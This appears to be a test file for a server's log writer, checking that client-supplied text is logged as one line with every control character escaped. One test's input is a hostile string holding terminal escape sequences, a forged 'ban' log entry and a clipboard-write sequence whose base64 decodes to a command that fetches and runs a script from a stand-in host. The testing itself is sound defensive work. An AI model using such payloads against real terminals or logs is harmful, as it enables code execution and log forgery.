import { expect, test } from "bun:test";
import { createLog } from "../../src/output/log-lines.ts";

/** What the log writes for `lines`, once its turn is over. */
async function logged(...lines: string[]): Promise<string> {
  let written = "";
  const log = createLog((text) => (written += text));
  for (const line of lines) log(line);
  await new Promise((resolve) => setImmediate(resolve));
  return written;
}

test("what a client chose reaches the log as one line, its controls and escapes shown, never run", async () => {
  const hostile =
    "bye\x1b]0;pwned\x07 \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b[2J\x1b[H\r\n2026-12-07T12:00:00.000Z ban alice by the console\u202e\x9b31m";
  const text = await logged(`ssh error 127.0.0.1: ${hostile}`);
  expect(text.split("\n")).toHaveLength(1);
  // Not one control character is left to the terminal showing the log: no ESC, BEL, CR, C1 or bidi override.
  expect(text).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202e]/);
  expect(text).toEndWith(
    "ssh error 127.0.0.1: bye\\x1b]0;pwned\\x07 \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 \\x1b[2J\\x1b[H\\r\\n2026-12-07T12:00:00.000Z ban alice by the console\\u202e\\x9b31m",
  );
});

test("characters that show nothing are shown in the log too, astral ones by their code point", async () => {
  const text = await logged("join x\u200by\u{E0041}z");
  expect(text).toEndWith(" join x\\u200by\\u{e0041}z");
});

test("ordinary lines are written as they are, one per line, each stamped with its time", async () => {
  const text = await logged("join alice (telnet 127.0.0.1)", "rename alice -> Ålice 名前");
  const lines = text.split("\n");
  expect(lines).toHaveLength(2);
  expect(lines[0]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z join alice \(telnet 127\.0\.0\.1\)$/);
  expect(lines[1]).toEndWith(" rename alice -> Ålice 名前");
});
